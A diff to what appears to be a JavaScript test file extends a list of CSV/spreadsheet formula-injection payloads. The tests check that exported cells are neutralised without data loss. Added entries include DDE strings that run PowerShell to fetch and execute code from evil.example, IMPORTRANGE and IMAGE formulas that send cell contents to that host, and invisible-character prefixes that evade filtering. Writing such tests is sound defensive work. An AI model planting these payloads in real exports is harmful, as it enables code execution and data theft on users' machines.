@@ -45,6 +45,20 @@ const payloads = [
   '==1',
   '-',
   '@',
+  '+',
+  '=',
+  "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
+  "=rundll32|'URL.dll,OpenURL evil.example'!A",
+  '@IMPORTRANGE("https://evil.example", "a1")',
+  '=IMAGE("https://evil.example/?" & A1)',
+  '+cmd|"/C calc"!A0',
+  '-cmd|"/C calc"!A0',
+  '  \t =1+1',
+  '\u2060=1+1',
+  '\u200F=1+1',
+  '\u3000=1+1',
+  '\r\n@SUM(A1)',
+  '=A1:A9',
 ];
 
 test.each(payloads)('%j is no formula for a spreadsheet, and nothing of it is lost', (payload) => {
@@ -56,3 +70,5 @@ test.each(['a=1', 'Ann-Marie', 'ann@example.com', '081 555 0199', "'=1", 'x";=cm
   '%s is left as it is',
   (text) => expect(read(csvLine([text]))).toEqual([text]),
 );
+
+test('there are forty of them', () => expect(payloads.length).toBeGreaterThanOrEqual(40));
